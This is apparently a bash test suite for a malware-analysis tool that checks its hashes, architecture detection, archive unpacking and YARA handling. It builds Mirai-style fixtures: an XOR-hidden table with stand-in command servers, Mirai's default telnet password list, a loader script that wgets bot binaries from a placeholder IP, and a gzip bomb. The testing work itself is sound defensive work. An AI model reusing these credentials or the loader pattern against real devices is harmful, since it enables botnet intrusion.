#!/bin/bash
# kansoku analyse against what other programs say of the same files: Debian's own programs and libraries of
# all architectures, programs with a hidden table built for each, archives, packages for Android, YARA, TLSH.
. "$(dirname "$0")/lib.sh"
command -v jq >/dev/null || skip "jq is missing"
analyse() { timeout 20 "$KANSOKU" analyse --json "$@"; }
is() { [ "$2" = "$3" ] || fail "$1: $2, not $3"; }

# Digests and TLSH are those of other programs.
for file in /bin/bash /bin/busybox /usr/share/common-licenses/GPL-3 "$KANSOKU"; do
	[ -r "$file" ] || continue
	analyse "$file" >"$WORK/json" || fail "analyse $file"
	is "sha256 of $file" "$(jq -r .sha256 "$WORK/json")" "$(sha256sum <"$file" | cut -d' ' -f1)"
	is "md5 of $file" "$(jq -r .md5 "$WORK/json")" "$(md5sum <"$file" | cut -d' ' -f1)"
	[ "$(stat -Lc %s "$file")" -lt 20000000 ] && command -v tlsh >/dev/null &&
		is "TLSH of $file" "$(jq -r .tlsh "$WORK/json")" "T1$(tlsh -f "$file" | cut -f1)"
done

# A table as Mirai hides it, in a program of each architecture, also with damaged headers.
python3 - >"$WORK/bot.c" <<'EOT'
def hidden(text, zero=True):
    return '"' + ''.join('\\%03o' % (b ^ 0x54) for b in text + (b'\0' if zero else b'')) + '"'
table = [b'cnc.evil.example', (667).to_bytes(2, 'big'), b'report.evil.example', (48101).to_bytes(2, 'big'),
         b'listening tun0', b'/proc/', b'/exe', b'/maps', b'/bin/busybox ENTRY', b'enable', b'system', b'shell', b'ncorrect']
words = [b'root', b'xc3511', b'vizxv', b'admin', b'888888', b'xmhdipc', b'juantech', b'123456', b'54321']
print('const char *volatile sink;\nvoid _start(void) {')
for w in words:
    print('\tsink = %s;' % hidden(w, False))
for t in table:
    print('\tsink = %s;' % hidden(t, len(t) != 2))
print('}')
EOT
built=0
for pair in i386=i686-linux-gnu x86-64=x86_64-linux-gnu arm=arm-linux-gnueabi aarch64=aarch64-linux-gnu mips=mips-linux-gnu \
	mipsel=mipsel-linux-gnu powerpc=powerpc-linux-gnu sparc64=sparc64-linux-gnu m68k=m68k-linux-gnu riscv64=riscv64-linux-gnu sh4=sh4-linux-gnu; do
	arch=${pair%%=*} cc=${pair#*=}-gcc
	command -v "$cc" >/dev/null || continue
	"$cc" -Os -static -nostdlib -o "$WORK/bot.$arch" "$WORK/bot.c" 2>/dev/null || continue
	built=$((built + 1))
	analyse "$WORK/bot.$arch" >"$WORK/json" || fail "analyse of $arch"
	is "architecture" "$(jq -r .architecture "$WORK/json")" "$arch"
	for value in cnc.evil.example:667 report.evil.example:48101 'xor 0x54'; do
		jq -e --arg v "$value" '.indicators[] | select(.value == $v)' "$WORK/json" >/dev/null || fail "$arch: $value was not found"
	done
	is "role" "$(jq -r '.indicators[] | select(.value == "cnc.evil.example:667") | .role' "$WORK/json")" command
	is "family" "$(jq -r '.families[0].name' "$WORK/json")" mirai
done
[ $built -gt 0 ] || echo "no cross compiler: architectures were not compared"
if [ -e "$WORK/bot.mips" ]; then
	cp "$WORK/bot.mips" "$WORK/damaged"
	# Section headers that lead nowhere, the wrong byte order, a size of program headers that is none.
	printf '\377\377\377\377' | dd of="$WORK/damaged" bs=1 seek=32 conv=notrunc status=none
	printf '\001' | dd of="$WORK/damaged" bs=1 seek=5 conv=notrunc status=none
	printf '\377\377' | dd of="$WORK/damaged" bs=1 seek=42 conv=notrunc status=none
	analyse "$WORK/damaged" >"$WORK/json" || fail "analyse of a damaged file"
	is "architecture of a damaged file" "$(jq -r .architecture "$WORK/json")" mips
	[ "$(jq '[.facts[] | select(.name == "elf.damaged")] | length' "$WORK/json")" -ge 3 ] || fail "damage is not told"
	jq -e '.indicators[] | select(.value == "cnc.evil.example:667")' "$WORK/json" >/dev/null || fail "nothing was found in a damaged file"
fi

# Ordinary programs name no command server, family or hidden key.
for file in /bin/bash /bin/ls /usr/bin/openssl /usr/bin/python3 /usr/bin/gdb /usr/sbin/sshd; do
	[ -r "$file" ] || continue
	analyse "$file" >"$WORK/json" || fail "analyse $file"
	is "families of $file" "$(jq -c '[.families[].name]' "$WORK/json")" '[]'
	is "command servers in $file" "$(jq -c '[.indicators[] | select(.role == "command" or (.type == "key" and (.value | startswith("xor"))))]' "$WORK/json")" '[]'
done

# Archives within archives, one with the password that everybody uses; a bomb ends at a limit.
if command -v zip >/dev/null && command -v 7z >/dev/null; then
	mkdir "$WORK/in"
	printf '#!/bin/sh\nS=198.51.100.7\nfor a in mips arm; do wget http://$S/b.$a; done\n' >"$WORK/in/loader.sh"
	(cd "$WORK/in" && zip -qP infected ../a.zip loader.sh && cd .. && 7z a -bd b.7z a.zip >/dev/null && tar czf c.tgz b.7z)
	analyse "$WORK/c.tgz" >"$WORK/json" || fail "analyse of archives"
	is "parts" "$(jq -c '[.parts[].type]' "$WORK/json")" '["gzip","7z","zip","script"]'
	jq -e '.indicators[] | select(.value == "http://198.51.100.7/b.arm" and .role == "download")' "$WORK/json" >/dev/null ||
		fail "the loader's URL was not found"
	head -c 100000000 /dev/zero | gzip -c | gzip -c >"$WORK/bomb.gz"
	/usr/bin/time -f %M -o "$WORK/memory" timeout 60 "$KANSOKU" analyse --json "$WORK/bomb.gz" >"$WORK/json" 2>/dev/null ||
		analyse "$WORK/bomb.gz" >"$WORK/json" || fail "analyse of a bomb"
	jq -e '.limits | index("archive.member")' "$WORK/json" >/dev/null || fail "no limit is named for a bomb"
	[ ! -s "$WORK/memory" ] || [ "$(tail -1 "$WORK/memory")" -lt 600000 ] || fail "a bomb took $(cat "$WORK/memory") KiB"
fi

# Windows programs: their imports as YARA's own module digests them.
for cc in i686-w64-mingw32-gcc x86_64-w64-mingw32-gcc; do
	command -v $cc >/dev/null && command -v yara >/dev/null || continue
	printf '#include <winsock2.h>\nint main(void){CreateMutexA(0,0,"Global\\\\kansoku-test");return connect(0,0,0);}' >"$WORK/p.c"
	$cc -s -o "$WORK/p.exe" "$WORK/p.c" -lws2_32 || fail "$cc"
	analyse "$WORK/p.exe" >"$WORK/json" || fail "analyse of a PE file"
	hash=$(jq -r '.facts[] | select(.name == "pe.imphash") | .value' "$WORK/json")
	printf 'import "pe"\nrule imports { condition: pe.imphash() == "%s" }\n' "$hash" >"$WORK/imports.yar"
	is "YARA of $cc" "$(yara "$WORK/imports.yar" "$WORK/p.exe" | cut -d' ' -f1)" imports
	is "own YARA" "$(analyse --rules "$WORK/imports.yar" "$WORK/p.exe" | jq -r '.yara[0]')" imports:imports
	jq -e '.indicators[] | select(.type == "mutex" and .value == "Global\\kansoku-test")' "$WORK/json" >/dev/null || fail "no mutex"
done
printf 'rule broken { condition: nothing }\n' >"$WORK/broken.yar"
"$KANSOKU" analyse --rules "$WORK/broken.yar" /bin/ls >/dev/null 2>"$WORK/error" && fail "broken rules were taken"
grep -q 'broken.yar:1' "$WORK/error" || fail "the fault names no line: $(cat "$WORK/error")"

# What is inside can be saved; nothing that is saved can be run by mistake.
if [ -e "$WORK/c.tgz" ]; then
	"$KANSOKU" analyse --parts "$WORK/parts" "$WORK/c.tgz" >/dev/null || fail "saving parts"
	is "saved parts" "$(find "$WORK/parts" -type f -perm 0400 | wc -l)" 3
fi
echo "analyse: $built architectures"
